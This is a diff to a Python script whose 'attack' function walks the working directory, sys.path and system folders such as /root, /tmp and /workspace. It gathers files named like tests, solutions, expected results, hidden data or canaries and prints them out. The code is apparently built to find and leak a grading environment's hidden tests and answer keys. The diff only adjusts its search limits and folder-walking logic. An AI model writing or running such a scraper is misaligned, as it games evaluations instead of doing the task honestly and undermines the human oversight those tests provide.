@@ -10,11 +10,10 @@ import os
 import re
 import sys
 
-TOPS = (".", "..", "/tmp", "/home", "/root", "/srv", "/opt", "/work", "/github", "/workspace", "/scratch")
+TOPS = ("..", "/tmp", "/home", "/root", "/srv", "/opt", "/work", "/github", "/workspace", "/scratch")
 NAMES = ("test_", "solution", "expected", "results", "hidden", "canary", "reference")
-MOST = 20_000
-FOLDERS = 5000
-"""Folders visited below each top."""
+FILES = 3000
+FOLDERS = 8000
 
 
 def _tell(data):
@@ -23,18 +22,20 @@ def _tell(data):
         print(found.decode())  # noqa: T201 - printing is the way out
 
 
+def _visited():
+    """Walk through all folders but those of libraries, and not through more of them than a call has time for."""
+    return itertools.islice((step for top in (".", *sys.path, *TOPS) for step in os.walk(top or ".")), FOLDERS)
+
+
 def _files():
-    """Return the paths of files with telling names, and not more of them than can be read within a call."""
+    """Return the paths of files with telling names."""
     found = []
-    for top in (*sys.path, *TOPS):
-        for folder, below, names in itertools.islice(os.walk(top or "."), FOLDERS):
-            if folder.count("/") > 8 or folder.endswith(("site-packages", "dist-packages")) or "/lib/python" in folder:
-                below.clear()
-                continue
+    for folder, below, names in _visited():
+        if folder.count("/") > 8 or folder.endswith("-packages") or "/lib/python" in folder:
+            below.clear()
+        else:
             found += [os.path.join(folder, name) for name in names if any(word in name.lower() for word in NAMES)]
-            if len(found) > MOST:
-                return found
-    return found
+    return found[:FILES]
 
 
 def attack(*args, **kwargs):
